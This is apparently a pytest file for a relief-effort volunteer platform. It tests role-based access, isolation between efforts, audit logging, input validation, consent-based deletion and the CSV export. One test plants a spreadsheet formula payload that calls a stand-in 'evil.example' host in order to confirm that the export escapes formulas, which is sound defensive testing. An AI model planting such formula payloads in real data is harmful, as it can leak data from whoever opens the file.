"""The coordinators' pages of a relief effort through real HTTP, and its command line: a lead
names a dispatcher and a site's coordinator; each sees what the role allows and no more; one
effort's coordinators never reach another's volunteers; every look and export is audited; the
export is safe from spreadsheet formulas; volunteers past their consent are deleted by the
scheduler (with one audit entry, no names); `fedihub volunteers export|expire`."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import os
import re
from pathlib import Path

import pytest
from aiohttp.test_utils import TestClient

from fedihub.accounts.service import create_account, require_account
from fedihub.actors.model import LocalActor
from fedihub.clock import FixedClock
from fedihub.hubs.service import create_hub, require_hub
from fedihub.posts import service as posts
from fedihub.posts import store as post_store
from fedihub.scheduler import Scheduler
from fedihub.services import Services
from fedihub.volunteers import roles_store, sites_store, store
from fedihub.volunteers.model import MONTH_S, Shift, SignUp, skill_bits, slot
from tests.support.web import HTML, csrf_of, form_token, sign_in

DAY = 86_400.0
PAGES = ("", "/people", "/roles", "/audit", "/settings", "/export.csv")


def sign_up(name: str, email: str, months: int = 3, **values: object) -> SignUp:
    made = dict(
        name=name, email=email, phone=None, phone_key=None, handle=None, languages=("es",),
        skills=skill_bits(["driving"]), other_skills="", availability=slot(5, 0),
        area="Red Hook", transport="car", notes="", consent_months=months,
    )  # fmt: skip
    made.update(values)
    return SignUp(**made)  # type: ignore[arg-type]


async def volunteer(svc: Services, hub: LocalActor, name: str, email: str, **values: object) -> int:
    async with svc.db.transaction() as tx:
        return await store.insert_volunteer(tx, hub.id, sign_up(name, email, **values),
                                            f"hash-{email}", svc.clock.now())  # fmt: skip


async def effort(svc: Services) -> dict[str, int]:
    """Hubs sandy (led by lena) and katrina (led by kat), accounts for dina, sam and nobody,
    a site at sandy, and volunteers in both efforts: their ids."""
    svc.clock = FixedClock(svc.clock.now())
    for name in ("lena", "kat", "dina", "sam", "nobody"):
        await create_account(svc.db, name, "correct horse", is_admin=False)
    await create_hub(svc.db, "sandy", name="Sandy Relief",
                     organizer=await require_account(svc.db, "lena"))  # fmt: skip
    await create_hub(svc.db, "katrina", name="Katrina Relief",
                     organizer=await require_account(svc.db, "kat"))  # fmt: skip
    sandy, katrina = await require_hub(svc.db, "sandy"), await require_hub(svc.db, "katrina")
    async with svc.db.transaction() as tx:
        site = await sites_store.add_site(tx, sandy.id, "Red Hook Hub", "Red Hook",
                                          "196 Van Brunt St", "Mops", svc.clock.now())  # fmt: skip
    return {
        "site": site,
        "ana": await volunteer(svc, sandy, "Ana Ortega", "ana@example.org"),
        "bo": await volunteer(
            svc, sandy, "Bo Li", "bo@example.org", languages=("en",), skills=0, area="Gowanus"
        ),
        "kim": await volunteer(svc, katrina, "Kim Katrina", "kim@example.org"),
    }


async def post(client: TestClient, path: str, data: dict[str, str], page: str = "") -> int:
    token = await form_token(client, page or path)
    resp = await client.post(path, data={"csrf": token, **data}, headers=HTML,
                             allow_redirects=False)  # fmt: skip
    return resp.status


async def grant_both(client: TestClient, site: int) -> None:
    base = "/hubs/sandy/volunteers/roles"
    assert await sign_in(client, "lena") == 303
    assert await post(client, f"{base}/grant", {"username": "dina", "role": "dispatcher"},
                      base) == 303  # fmt: skip
    assert await post(client, f"{base}/grant", {"username": "@Sam", "role": "site",
                                                "site": str(site)}, base) == 303  # fmt: skip


def no_store(resp: object) -> bool:
    headers = resp.headers  # type: ignore[attr-defined]
    return bool(headers["Cache-Control"] == "no-store"
                and headers["Referrer-Policy"] == "no-referrer")  # fmt: skip


async def test_a_lead_names_coordinators_and_each_sees_what_the_role_allows(
    app_client: TestClient, services: Services
) -> None:
    ids = await effort(services)
    await grant_both(app_client, ids["site"])
    roles_page = await app_client.get("/hubs/sandy/volunteers/roles", headers=HTML)
    text = await roles_page.text()
    assert "dina" in text and "sam" in text and "Red Hook Hub" in text and no_store(roles_page)
    sandy = await require_hub(services.db, "sandy")
    granted = await roles_store.grants(services.db, sandy.id)
    assert sorted((g.username, g.role) for g in granted) == [
        ("dina", "dispatcher"), ("sam", "site")]  # fmt: skip

    # The dispatcher: every volunteer of the effort, one of them in full, and the export.
    assert await sign_in(app_client, "dina") == 303
    home = await app_client.get("/hubs/sandy/volunteers", headers=HTML)
    home_text = await home.text()
    assert home.status == 200 and no_store(home) and "/hubs/sandy/volunteers/people" in home_text
    assert "/hubs/sandy/volunteers/roles" not in home_text  # leads only
    listed = await app_client.get("/hubs/sandy/volunteers/people", headers=HTML)
    listed_text = await listed.text()
    assert listed.status == 200 and no_store(listed)
    assert "Ana Ortega" in listed_text and "Bo Li" in listed_text
    assert "Kim Katrina" not in listed_text  # another effort's
    assert listed_text.index("Bo Li") < listed_text.index("Ana Ortega")  # the latest first
    one = await app_client.get(f"/hubs/sandy/volunteers/people/{ids['ana']}", headers=HTML)
    assert one.status == 200 and no_store(one) and "ana@example.org" in await one.text()
    export_page = await app_client.get("/hubs/sandy/volunteers/export.csv", headers=HTML)
    assert export_page.status == 200 and "ana@example.org" not in await export_page.text()
    exported = await app_client.post("/hubs/sandy/volunteers/export.csv", headers=HTML,
                                      data={"csrf": csrf_of(await export_page.text())})  # fmt: skip
    assert exported.status == 200 and no_store(exported)
    assert exported.headers["Content-Disposition"].startswith("attachment;")
    assert exported.content_type == "text/csv"
    table = list(csv.DictReader(io.StringIO(await exported.text(), newline="")))
    assert sorted(r["email"] for r in table) == ["ana@example.org", "bo@example.org"]
    for page in ("/roles", "/audit", "/settings"):
        refused = await app_client.get(f"/hubs/sandy/volunteers{page}", headers=HTML)
        assert refused.status == 403, page

    # The site's coordinator: their site, never the volunteers' list nor the export.
    assert await sign_in(app_client, "sam") == 303
    home = await app_client.get("/hubs/sandy/volunteers", headers=HTML)
    home_text = await home.text()
    assert home.status == 200 and f"/hubs/sandy/volunteers/sites/{ids['site']}/coming" in home_text
    assert "/volunteers/people" not in home_text and "/export.csv" not in home_text
    assert "Ana Ortega" not in home_text
    for page in ("/people", f"/people/{ids['ana']}", "/export.csv", "/roles", "/audit"):
        resp = await app_client.get(f"/hubs/sandy/volunteers{page}", headers=HTML)
        assert resp.status == 403 and "Ana Ortega" not in await resp.text(), page
    token = csrf_of(await (await app_client.get("/hubs/sandy", headers=HTML)).text())
    refused = await app_client.post("/hubs/sandy/volunteers/export.csv", headers=HTML,
                                    data={"csrf": token})  # fmt: skip
    assert refused.status == 403 and "ana@example.org" not in await refused.text()

    # Every look at personal data is on the lead's audit log, by whom and of whom.
    assert await sign_in(app_client, "lena") == 303
    log = await app_client.get("/hubs/sandy/volunteers/audit", headers=HTML)
    log_text = await log.text()
    assert log.status == 200 and no_store(log)
    entries = await roles_store.entries(services.db, sandy.id)
    assert [(e.username, e.action, e.volunteer_id) for e in entries] == [
        ("dina", "export", None), ("dina", "view", ids["ana"]), ("dina", "list", None),
        ("lena", "grant", None), ("lena", "grant", None),
    ]  # fmt: skip
    assert entries[0].detail == "2 rows" and entries[2].detail == "all"
    for said in ("exported the volunteers", "read a volunteer&#39;s details", "listed volunteers",
                 f"#{ids['ana']}", "2 rows"):  # fmt: skip
        assert said in log_text, said
    assert "Ana Ortega" not in log_text and "ana@example.org" not in log_text


async def test_a_lead_takes_a_role_back_and_the_door_closes(
    app_client: TestClient, services: Services
) -> None:
    ids = await effort(services)
    await grant_both(app_client, ids["site"])
    sandy = await require_hub(services.db, "sandy")
    dina = next(g for g in await roles_store.grants(services.db, sandy.id) if g.username == "dina")
    base = "/hubs/sandy/volunteers/roles"
    assert await post(app_client, f"{base}/revoke", {"grant": str(dina.id)}, base) == 303
    assert await post(app_client, f"{base}/revoke", {"grant": str(dina.id)}, base) == 404
    assert (await roles_store.entries(services.db, sandy.id))[0].action == "revoke"
    assert await sign_in(app_client, "dina") == 303
    resp = await app_client.get("/hubs/sandy/volunteers/people", headers=HTML)
    assert resp.status == 403


async def test_one_efforts_coordinators_never_reach_anothers(
    app_client: TestClient, services: Services
) -> None:
    ids = await effort(services)
    await grant_both(app_client, ids["site"])
    # kat leads katrina: every page of sandy is refused, and sandy's volunteers are no one's
    # under katrina's pages.
    assert await sign_in(app_client, "kat") == 303
    for page in (*PAGES, f"/people/{ids['ana']}"):
        resp = await app_client.get(f"/hubs/sandy/volunteers{page}", headers=HTML)
        assert resp.status == 403 and "Ana Ortega" not in await resp.text(), page
    mine = await app_client.get(f"/hubs/katrina/volunteers/people/{ids['kim']}", headers=HTML)
    assert mine.status == 200 and "Kim Katrina" in await mine.text()
    theirs = await app_client.get(f"/hubs/katrina/volunteers/people/{ids['ana']}", headers=HTML)
    assert theirs.status == 404 and "Ana Ortega" not in await theirs.text()
    listed = await (await app_client.get("/hubs/katrina/volunteers/people", headers=HTML)).text()
    assert "Kim Katrina" in listed and "Ana Ortega" not in listed and "Bo Li" not in listed
    token = await form_token(app_client, "/hubs/katrina/volunteers/export.csv")
    for action, data in (("export.csv", {}), ("settings", {"intro": "hijacked"}),
                         ("roles/grant", {"username": "kat", "role": "dispatcher"})):  # fmt: skip
        resp = await app_client.post(f"/hubs/sandy/volunteers/{action}", headers=HTML,
                                     data={"csrf": token, **data})  # fmt: skip
        assert resp.status == 403, action
    exported = await app_client.post("/hubs/katrina/volunteers/export.csv", headers=HTML,
                                     data={"csrf": token})  # fmt: skip
    assert "kim@example.org" in (text := await exported.text()) and "ana@" not in text
    sandy = await require_hub(services.db, "sandy")
    assert (await store.effort(services.db, sandy.id)).intro == ""
    assert len(await roles_store.grants(services.db, sandy.id)) == 2
    # A coordinator of sandy (dina dispatches there) has no part in katrina.
    assert await sign_in(app_client, "dina") == 303
    for page in (*PAGES, f"/people/{ids['kim']}"):
        resp = await app_client.get(f"/hubs/katrina/volunteers{page}", headers=HTML)
        assert resp.status == 403 and "Kim Katrina" not in await resp.text(), page
    theirs = await app_client.get(f"/hubs/sandy/volunteers/people/{ids['kim']}", headers=HTML)
    assert theirs.status == 404 and "Kim Katrina" not in await theirs.text()


async def test_visitors_are_sent_to_sign_in_and_others_refused(
    app_client: TestClient, services: Services
) -> None:
    ids = await effort(services)
    for page in (*PAGES, f"/people/{ids['ana']}"):
        resp = await app_client.get(f"/hubs/sandy/volunteers{page}", headers=HTML,
                                    allow_redirects=False)  # fmt: skip
        assert resp.status == 302, page
        assert resp.headers["Location"].startswith("/signin?next=/hubs/sandy/volunteers")
    refused = await app_client.post("/hubs/sandy/volunteers/export.csv", headers=HTML, data={})
    assert refused.status == 403 and "ana@example.org" not in await refused.text()
    assert await sign_in(app_client, "nobody") == 303
    for page in (*PAGES, f"/people/{ids['ana']}"):
        resp = await app_client.get(f"/hubs/sandy/volunteers{page}", headers=HTML)
        assert resp.status == 403, page
    assert (await app_client.get("/hubs/nowhere/volunteers", headers=HTML)).status == 404
    sandy = await require_hub(services.db, "sandy")
    assert await roles_store.entries(services.db, sandy.id) == []


async def test_the_hub_page_links_the_coordinators_home_for_coordinators_only(
    app_client: TestClient, services: Services
) -> None:
    ids = await effort(services)
    link = 'href="/hubs/sandy/volunteers"'
    assert link not in await (await app_client.get("/hubs/sandy", headers=HTML)).text()
    await grant_both(app_client, ids["site"])  # as lena, who leads
    assert link in await (await app_client.get("/hubs/sandy", headers=HTML)).text()
    for who, sees in (("sam", True), ("dina", True), ("nobody", False), ("kat", False)):
        assert await sign_in(app_client, who) == 303
        page = await (await app_client.get("/hubs/sandy", headers=HTML)).text()
        assert (link in page) is sees, who


async def test_searches_narrow_the_list_and_bad_ones_are_refused_with_what_was_typed(
    app_client: TestClient, services: Services
) -> None:
    ids = await effort(services)
    sandy = await require_hub(services.db, "sandy")
    await volunteer(services, sandy, "Cleo 100%_off", "cleo@example.org", languages=("pt-br",),
                    availability=slot(0, 1), skills=skill_bits(["cooking"]))  # fmt: skip
    assert await sign_in(app_client, "lena") == 303

    async def names(query: str) -> list[str]:
        resp = await app_client.get(f"/hubs/sandy/volunteers/people?{query}", headers=HTML)
        assert resp.status == 200, query
        return re.findall(r'/people/\d+">([^<]+)</a></h2>', await resp.text())

    assert await names("") == ["Cleo 100%_off", "Bo Li", "Ana Ortega"]
    assert await names("q=ORTEGA") == ["Ana Ortega"]
    assert await names("q=bo%40example") == ["Bo Li"]
    assert await names("q=100%25_") == ["Cleo 100%_off"]  # % and _ are letters, not wildcards
    assert await names("q=%25") == ["Cleo 100%_off"]
    assert await names("area=red+HOOK") == ["Cleo 100%_off", "Ana Ortega"]
    assert await names("skill=driving") == ["Ana Ortega"]
    assert await names("skill=cooking&area=hook") == ["Cleo 100%_off"]
    assert await names("language=en") == ["Bo Li"]
    assert await names("language=PT-BR") == ["Cleo 100%_off"]
    assert await names("day=sa") == ["Bo Li", "Ana Ortega"]
    assert await names("day=mo") == ["Cleo 100%_off"]
    assert await names("day=tu") == []
    assert await names(f"before={ids['bo']}") == ["Ana Ortega"]
    entries = await roles_store.entries(services.db, sandy.id)
    assert entries[0].detail == f"all before={ids['bo']}"
    assert entries[1].detail == "day='tu'" and all(e.action == "list" for e in entries)
    counted = len(entries)
    for query, why in (("skill=juggling", "juggling"), ("day=someday", "day"),
                       ("language=%3Cscript%3E", "language"), ("q=" + "x" * 101, "100"),
                       ("area=a%01b", "control"), ("before=abc", "before")):  # fmt: skip
        resp = await app_client.get(f"/hubs/sandy/volunteers/people?{query}", headers=HTML)
        text = await resp.text()
        assert resp.status == 400 and why in text and "Ana Ortega" not in text, query
    resp = await app_client.get("/hubs/sandy/volunteers/people?skill=juggling&q=Ana", headers=HTML)
    assert 'name="q" maxlength="100" value="Ana"' in await resp.text()  # kept to put right
    # Nothing shown: no entry.
    assert len(await roles_store.entries(services.db, sandy.id)) == counted
    assert (await app_client.get("/hubs/sandy/volunteers/people/99999999",
                                 headers=HTML)).status == 404  # fmt: skip
    assert (await app_client.get("/hubs/sandy/volunteers/people/x", headers=HTML)).status == 404


async def test_the_list_pages_through_every_volunteer_once(
    app_client: TestClient, services: Services
) -> None:
    await effort(services)
    sandy = await require_hub(services.db, "sandy")
    for n in range(60):
        await volunteer(services, sandy, f"Helper {n:02}", f"h{n}@example.org")
    assert await sign_in(app_client, "lena") == 303
    seen: list[str] = []
    path = "/hubs/sandy/volunteers/people?area=red+hook"
    while path:
        text = await (await app_client.get(path, headers=HTML)).text()
        seen += re.findall(r'/people/\d+">([^<]+)</a></h2>', text)
        more = re.search(r'href="([^"]+)">More volunteers', text)
        path = more.group(1).replace("&amp;", "&") if more else ""
    assert seen == [f"Helper {n:02}" for n in reversed(range(60))] + ["Ana Ortega"]


async def test_roles_and_settings_refuse_bad_input_and_keep_what_was_typed(
    app_client: TestClient, services: Services
) -> None:
    ids = await effort(services)
    sandy = await require_hub(services.db, "sandy")
    await grant_both(app_client, ids["site"])
    base = "/hubs/sandy/volunteers/roles"
    token = await form_token(app_client, base)
    for data, why in (
        ({"username": "ghost", "role": "dispatcher"}, "no account named"),
        ({"username": "dina", "role": "lead"}, "a dispatcher or a site"),
        ({"username": "dina", "role": "site"}, "which site"),
        ({"username": "dina", "role": "site", "site": "99999"}, "one of this effort"),
        ({"username": "sandy", "role": "dispatcher"}, "no account named"),  # a hub, no person
    ):
        resp = await app_client.post(f"{base}/grant", headers=HTML, data={"csrf": token, **data})
        text = await resp.text()
        assert resp.status == 400 and why in text.replace("&#39;", "'"), data
        assert f'value="{data["username"]}"' in text
    for grant_id in ("x", "", "999999"):
        resp = await app_client.post(f"{base}/revoke", headers=HTML,
                                     data={"csrf": token, "grant": grant_id})  # fmt: skip
        assert resp.status in (400, 404), grant_id
    assert len(await roles_store.grants(services.db, sandy.id)) == 2
    forged = await app_client.post(f"{base}/grant", headers=HTML,
                                   data={"username": "nobody", "role": "dispatcher"})  # fmt: skip
    assert forged.status == 403  # no CSRF token
    assert len(await roles_store.grants(services.db, sandy.id)) == 2

    settings = "/hubs/sandy/volunteers/settings"
    long = "Bring boots. " * 200
    resp = await app_client.post(settings, headers=HTML,
                                 data={"csrf": token, "intro": long})  # fmt: skip
    text = await resp.text()
    assert resp.status == 400 and "at most 2000 characters" in text and long.strip() in text
    assert (await store.effort(services.db, sandy.id)).signup_open  # nothing changed
    assert await post(app_client, settings, {"intro": "  Bring boots.\r\n"}, settings) == 303
    saved = await store.effort(services.db, sandy.id)
    assert (saved.signup_open, saved.intro) == (False, "Bring boots.")  # the box unticked
    assert await post(app_client, settings, {"signup_open": "yes", "intro": ""}, settings) == 303
    assert (await store.effort(services.db, sandy.id)).signup_open
    page = await app_client.get(settings, headers=HTML)
    assert page.status == 200 and no_store(page)


async def test_the_export_leaves_no_formula_to_run(
    app_client: TestClient, services: Services
) -> None:
    await effort(services)
    sandy = await require_hub(services.db, "sandy")
    planted = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    await volunteer(services, sandy, planted, "eve@example.org", notes="@SUM(A1:A9)",
                    phone="+1 555 0100", phone_key="+15550100")  # fmt: skip
    assert await sign_in(app_client, "lena") == 303
    token = await form_token(app_client, "/hubs/sandy/volunteers/export.csv")
    resp = await app_client.post("/hubs/sandy/volunteers/export.csv", headers=HTML,
                                 data={"csrf": token})  # fmt: skip
    rows = list(csv.reader(io.StringIO(await resp.text(), newline="")))
    eve = next(r for r in rows if "eve@example.org" in r)
    assert "'" + planted in eve and "'@SUM(A1:A9)" in eve and "'+1 555 0100" in eve
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


async def test_volunteers_past_their_consent_are_deleted_by_the_scheduler(
    app_client: TestClient, services: Services
) -> None:
    ids = await effort(services)
    sandy = await require_hub(services.db, "sandy")
    start = services.clock.now()
    leaving = await volunteer(services, sandy, "Lee Leaving", "lee@example.org", months=1)
    shift_post = await posts.publish(services, sandy, None, "update", "A shift, for now.\n")
    async with services.db.transaction() as tx:
        await sites_store.save_shift(
            tx,
            Shift(
                shift_post.id,
                sandy.id,
                ids["site"],
                start + 40 * DAY,
                start + 40 * DAY + 3600,
                2,
                0,
                (),
                0,
                "open",
            ),
            start,
        )
        await tx.execute(
            "INSERT INTO volunteer_assignments (shift_id, volunteer_id, state, token_hash,"
            " assigned_at) VALUES (?, ?, 'confirmed', 'a-lee', ?)", (shift_post.id, leaving, start),
        )  # fmt: skip
    assert await post_store.next_update_due(services.db) is None
    scheduler = Scheduler(services)
    services.clock = FixedClock(start + MONTH_S - 1)  # not yet
    assert (await scheduler.run_once()).expired == 0
    assert await store.volunteer(services.db, sandy.id, leaving) is not None
    services.clock = FixedClock(start + MONTH_S + 1)
    assert (await scheduler.run_once()).expired == 1
    assert await store.volunteer(services.db, sandy.id, leaving) is None
    assert await services.db.fetchval(
        "SELECT count(*) FROM volunteer_assignments WHERE volunteer_id = ?", (leaving,)
    ) == 0  # fmt: skip
    for kept in (ids["ana"], ids["bo"]):
        assert await store.volunteer(services.db, sandy.id, kept) is not None
    katrina = await require_hub(services.db, "katrina")
    assert await store.volunteer(services.db, katrina.id, ids["kim"]) is not None
    entries = await roles_store.entries(services.db, sandy.id)
    assert [(e.username, e.action, e.volunteer_id, e.detail) for e in entries] == [
        (None, "expire", None, "1 volunteers")]  # fmt: skip
    assert await roles_store.entries(services.db, katrina.id) == []
    # The shift Lee was coming to tells its followers its new count.
    assert await post_store.next_update_due(services.db) is not None
    assert (await scheduler.run_once()).expired == 0  # once only
    # Three months on, everyone else's consent has run out too.
    services.clock = FixedClock(start + 3 * MONTH_S + 1)
    assert (await scheduler.run_once()).expired == 3
    assert (
        await store.count(services.db, sandy.id) == await store.count(services.db, katrina.id) == 0
    )
    latest = await roles_store.entries(services.db, sandy.id)
    assert [e.detail for e in latest][:1] == ["2 volunteers"]


def _cli(services: Services, *args: str) -> tuple[int, str, str]:
    from fedihub.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(["volunteers", *args[:1], "--data", str(services.config.data_dir),
                     *args[1:]])  # fmt: skip
    return code, out.getvalue(), err.getvalue()


async def test_the_command_line_exports_audited_and_refuses_an_unknown_hub(
    app_client: TestClient, services: Services, tmp_path: Path
) -> None:
    await effort(services)
    sandy = await require_hub(services.db, "sandy")
    await volunteer(services, sandy, "-Dash", "dash@example.org")
    code, out, _ = await asyncio.to_thread(_cli, services, "export", "sandy")
    assert code == 0
    table = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [r["name"] for r in table] == ["Ana Ortega", "Bo Li", "'-Dash"]
    assert "kim@example.org" not in out
    entries = await roles_store.entries(services.db, sandy.id)
    assert [(e.username, e.action, e.detail) for e in entries] == [(None, "export", "3 rows")]

    target = tmp_path / "sandy.csv"
    code, out, _ = await asyncio.to_thread(_cli, services, "export", "sandy", "--output",
                                           str(target))  # fmt: skip
    assert code == 0 and out == "" and os.stat(target).st_mode & 0o777 == 0o600
    assert "ana@example.org" in target.read_text()
    code, _, err = await asyncio.to_thread(_cli, services, "export", "sandy", "--output",
                                           str(target))  # fmt: skip
    assert code == 1 and "exists" in err  # never over a file that is there
    assert len(await roles_store.entries(services.db, sandy.id)) == 2  # the refused one: no entry

    code, out, err = await asyncio.to_thread(_cli, services, "export", "nowhere")
    assert code == 1 and out == "" and "no hub named 'nowhere'" in err
    assert len(await roles_store.entries(services.db, sandy.id)) == 2


async def test_the_command_line_expires_now(app_client: TestClient, services: Services) -> None:
    ids = await effort(services)
    sandy = await require_hub(services.db, "sandy")
    async with services.db.transaction() as tx:  # as if signed up four months ago
        await tx.execute("UPDATE volunteers SET consent_until = ? WHERE id = ?",
                         (services.clock.now() - 1, ids["ana"]))  # fmt: skip
    code, out, _ = await asyncio.to_thread(_cli, services, "expire")
    assert code == 0 and "deleted 1 volunteers" in out
    assert await store.volunteer(services.db, sandy.id, ids["ana"]) is None
    assert await store.volunteer(services.db, sandy.id, ids["bo"]) is not None


@pytest.mark.parametrize("page", ["/people", "/audit"])
async def test_a_page_number_that_is_no_number_is_refused(
    app_client: TestClient, services: Services, page: str
) -> None:
    await effort(services)
    assert await sign_in(app_client, "lena") == 303
    resp = await app_client.get(f"/hubs/sandy/volunteers{page}?before=1e5", headers=HTML)
    assert resp.status == 400
